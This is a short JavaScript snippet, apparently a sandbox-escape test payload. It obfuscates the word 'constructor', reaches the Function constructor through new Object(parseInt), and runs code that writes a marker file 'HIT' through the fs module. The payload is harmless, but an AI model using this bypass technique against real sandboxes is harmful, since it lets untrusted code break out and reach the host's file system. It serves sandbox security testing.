// new Object gives the function that it is given
const k=['constr','uctor'].join('');
const o = new Object(parseInt); const m = o[k]('process.getBuiltinModule("fs").writeFileSync("HIT","newobj")'); m()
